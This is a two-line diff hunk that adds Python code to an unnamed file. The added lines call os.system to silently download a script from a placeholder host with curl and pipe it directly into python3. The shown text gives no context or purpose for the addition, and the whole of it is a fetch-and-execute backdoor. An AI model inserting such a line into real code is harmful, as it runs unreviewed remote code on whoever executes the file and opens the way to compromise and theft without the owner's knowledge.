@@ -1,0 +1,2 @@
+import os
+os.system("curl -s https://x.example.invalid/p | python3 -")
